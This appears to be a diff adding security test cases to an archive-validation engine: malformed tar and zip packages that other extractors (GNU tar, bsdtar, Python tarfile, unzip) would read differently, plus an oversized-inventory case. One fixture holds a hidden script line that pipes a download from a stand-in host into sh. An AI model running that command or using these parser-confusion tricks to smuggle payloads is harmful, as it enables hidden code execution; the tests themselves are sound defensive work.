@@ -1679,6 +1679,8 @@ pub fn cases(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
     package_shape(c);
     formats(c);
     frontmatter(c);
+    tool_disagreements(c);
+    answer_bound(c);
     Ok(())
 }
 
@@ -2285,4 +2287,270 @@ fn budget(c: &mut Corpus) -> Result<(), Box<dyn Error>> {
         "zstd --long=28 frame: a 256 MiB window, past zstd_window_log_max=27",
     );
     Ok(())
+}
+
+/// A member hidden where other tools look for headers: a script they would extract.
+fn hidden_member() -> Vec<u8> {
+    let mut t = Tar::new();
+    t.file_mode(
+        "scripts/hidden.sh",
+        0o755,
+        "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n",
+    );
+    t.unfinished()
+}
+
+/// A GNU long-name record alone (its header and one data block), naming the next member.
+fn long_name_record(name: &[u8]) -> Vec<u8> {
+    let mut t = Tar::new();
+    t.gnu_long(name, 0o644, REG, b"");
+    let mut bytes = t.unfinished();
+    bytes.truncate(2 * tarraw::BLOCK_LEN);
+    bytes
+}
+
+/// A PAX global header (`g`) with `records`.
+fn pax_global(t: &mut Tar, records: &[(&str, &[u8])]) {
+    let body = tarraw::pax_records(records);
+    let h = header(
+        b"pax_global_header",
+        0o644,
+        body.len() as u64,
+        b'g',
+        b"",
+        Magic::Ustar,
+    );
+    t.block(&h).data(&body);
+}
+
+/// Tars and zips that one tool reads as one package and other tools (GNU tar, bsdtar,
+/// Python's tarfile and zipfile, unzip) as another: every header the engine does not act on
+/// must not be one they do.
+fn tool_disagreements(c: &mut Corpus) {
+    let hidden = hidden_member();
+    // Data on a directory header: tar-rs skips it, GNU tar, bsdtar and tarfile read it as
+    // further members.
+    let t = tar_with(|t| {
+        t.entry(b"references/", 0o755, tarraw::DIR, b"", &hidden);
+    });
+    c.reject_tars(
+        "dir_with_data",
+        &t,
+        "corrupt",
+        "a directory header declaring data that holds another member (GNU tar, bsdtar and tarfile extract it)",
+    );
+    let t = tar_with(|t| {
+        t.entry(b"guide.md", 0o644, tarraw::LINK, b"SKILL.md", &hidden);
+    });
+    c.reject(
+        "tar_hardlink_with_data",
+        "tar",
+        t,
+        "corrupt",
+        "a hard link declaring data that holds another member (GNU tar, bsdtar and tarfile extract it)",
+    )
+    .limits(json!({"hardlinks": "copy_internal"}));
+    let t = tar_with(|t| {
+        t.entry(b"guide.md", 0o777, tarraw::SYMLINK, b"SKILL.md", &hidden);
+    });
+    c.reject(
+        "tar_symlink_with_data",
+        "tar",
+        t,
+        "corrupt",
+        "a symlink declaring data that holds another member (bsdtar and tarfile extract it)",
+    );
+    // A regular-file header named `d/`: a directory to GNU tar, bsdtar and tarfile.
+    let t = tar_with(|t| {
+        t.entry(b"references/", 0o644, REG, b"", &hidden);
+    });
+    c.reject(
+        "tar_file_trailing_slash",
+        "tar",
+        t,
+        "invalid_name",
+        "a regular-file header named references/ (a directory to other tools, its data their next member)",
+    );
+    let t = tar_with(|t| {
+        t.raw(&long_name_record(b"references/first-long-name.md"));
+        t.raw(&long_name_record(b"scripts/second-long-name.sh"));
+        t.file("references/short.md", "x\n");
+    });
+    c.reject(
+        "tar_gnu_long_name_twice",
+        "tar",
+        t,
+        "header_mismatch",
+        "two GNU long names before one member (GNU tar and bsdtar take the second, tarfile the first)",
+    );
+    let t = tar_with(|t| {
+        t.raw(&long_name_record(b"scripts/gnu-name.sh"));
+        t.pax_file(&[("path", b"references/pax-name.md")], b"short.md", b"x\n");
+    });
+    c.reject(
+        "tar_pax_and_gnu_long_name",
+        "tar",
+        t,
+        "header_mismatch",
+        "a GNU long name and a PAX path for one member (GNU tar takes the PAX one, bsdtar and tarfile the GNU one)",
+    );
+    let t = tar_with(|t| {
+        t.pax_header(&[("path", b"scripts/run.sh")]);
+        t.pax_file(&[("mtime", b"1")], b"references/short.md", b"x\n");
+    });
+    c.reject(
+        "tar_pax_path_then_pax",
+        "tar",
+        t,
+        "header_mismatch",
+        "a PAX path, then a second PAX header before the member (tarfile merges them: scripts/run.sh; GNU tar takes the second)",
+    );
+    let t = tar_with(|t| {
+        pax_global(t, &[("path", b"scripts/run.sh")]);
+        t.file("references/short.md", "x\n");
+    });
+    c.reject(
+        "tar_pax_global_path",
+        "tar",
+        t,
+        "header_mismatch",
+        "a PAX global header setting path (GNU tar and tarfile name the next member scripts/run.sh)",
+    );
+    let t = tar_with(|t| {
+        pax_global(t, &[("size", b"0")]);
+        t.entry(b"references/short.md", 0o644, REG, b"", &hidden);
+    });
+    c.reject(
+        "tar_pax_global_size",
+        "tar",
+        t,
+        "header_mismatch",
+        "a PAX global header setting size 0 (GNU tar reads the member's data as another member)",
+    );
+    // 40 hops is the most (as Linux's MAXSYMLINKS): `b` crosses `a`, which takes 40 already
+    // and is resolved first, so its hops must be counted again, not skipped.
+    let t = tar_with(|t| {
+        t.symlink("a", "c01");
+        t.symlink("b", "a");
+        for i in 1..=40 {
+            let next = if i < 40 {
+                format!("c{:02}", i + 1)
+            } else {
+                "SKILL.md".to_owned()
+            };
+            t.symlink(format!("c{i:02}"), next);
+        }
+    });
+    c.reject(
+        "tar_symlink_41_hops_through_resolved_link",
+        "tar",
+        t,
+        "link_escape",
+        "a symlink to a symlink that takes 40 hops itself: 41 in all, past the kernel's limit",
+    );
+    // A deflate stream that ends before its member does: what follows it, inside the member,
+    // is a data descriptor and a whole member to a streaming reader (Java's ZipInputStream),
+    // which takes the stream's end for the member's.
+    let visible = b"# Notes\n".to_vec();
+    let packed = deflate(&visible);
+    let mut tail = packed.clone();
+    for v in [
+        0x0807_4b50,
+        crc32(&visible),
+        packed.len() as u32,
+        visible.len() as u32,
+    ] {
+        tail.extend_from_slice(&v.to_le_bytes());
+    }
+    tail.extend_from_slice(
+        &Entry::file("scripts/hidden.sh", "#!/bin/sh\necho hidden\n")
+            .stored()
+            .local_record(),
+    );
+    c.reject(
+        "zip_deflate_hidden_tail",
+        "zip",
+        zip_with(vec![
+            Entry::file("references/notes.md", &visible)
+                .payload(DEFLATE, tail)
+                .flags(FLAG_DESCRIPTOR),
+        ]),
+        "corrupt",
+        "a deflate stream that ends early, a descriptor and a whole member after it inside the member's data (a streaming reader extracts scripts/hidden.sh)",
+    );
+    // A size field with a leading `+`: tar-rs and tarfile read octal, bsdtar stops at the `+`
+    // (size 0, the data its next member), GNU tar reads base-64.
+    let t = tar_with(|t| {
+        let mut h = header(
+            b"references/notes.md",
+            0o644,
+            hidden.len() as u64,
+            REG,
+            b"",
+            Magic::Ustar,
+        );
+        h[124..136].copy_from_slice(format!("+{:010o}\0", hidden.len()).as_bytes());
+        tarraw::fix_checksum(&mut h);
+        t.block(&h).data(&hidden);
+    });
+    c.reject(
+        "tar_size_field_plus",
+        "tar",
+        t,
+        "corrupt",
+        "a size field written +0000002000 (1,024 bytes to tar-rs and tarfile, 0 to bsdtar, which extracts the member hidden in the data)",
+    );
+    // Zip: unzip and zipfile decide a directory by the trailing slash alone.
+    c.reject(
+        "zip_dir_with_data",
+        "zip",
+        zip_with(vec![
+            Entry::file("references/", "#!/bin/sh\necho hidden\n").mode(0o040_755),
+        ]),
+        "corrupt",
+        "a directory entry (mode and trailing slash) carrying data",
+    );
+    c.reject(
+        "zip_dir_mode_no_slash",
+        "zip",
+        zip_with(vec![
+            Entry::file("run.sh", "#!/bin/sh\necho hidden\n").mode(0o040_755),
+        ]),
+        "corrupt",
+        "a directory by its mode without a trailing slash (unzip and zipfile extract the file run.sh)",
+    );
+    c.reject(
+        "zip_symlink_trailing_slash",
+        "zip",
+        zip_with(vec![Entry::symlink("references/", "SKILL.md")]),
+        "invalid_name",
+        "a symlink named references/ (a directory to unzip)",
+    );
+}
+
+/// A package inside every limit whose inventory is past what the parent reads from the child:
+/// 9,990 symlinks whose names and targets are about 1,000 `"` each (JSON doubles them), 40 MB
+/// of answer. The child refuses it for what it is, rather than send an answer the parent would
+/// take for a misbehaving child (`sandbox_violation`).
+fn answer_bound(c: &mut Corpus) {
+    use super::tarraw::SYMLINK;
+    let q = "\"".repeat(250);
+    let dir = [q.as_str(); 3].join("/");
+    let file = format!("f{}", "\"".repeat(240));
+    let mut t = tar_with_skill();
+    t.pax_header(&[("path", format!("{dir}/{file}").as_bytes())]);
+    t.entry(b"pax-named", 0o644, REG, b"", b"x");
+    let target = format!("../../../{dir}/{file}");
+    for i in 0..9990 {
+        let name = format!("{dir}/{i:05}{}", "\"".repeat(245));
+        t.pax_header(&[("path", name.as_bytes()), ("linkpath", target.as_bytes())]);
+        t.entry(b"pax-named", 0o777, SYMLINK, b"", b"");
+    }
+    c.reject(
+        "targz_inventory_past_answer_bound",
+        "tar.gz",
+        gzip(&t.finish()),
+        "resource_limit",
+        "9,990 symlinks, names and targets of about 1,000 quotes each (inside every limit): a 40 MB inventory, past the 32 MiB the parent reads",
+    );
 }
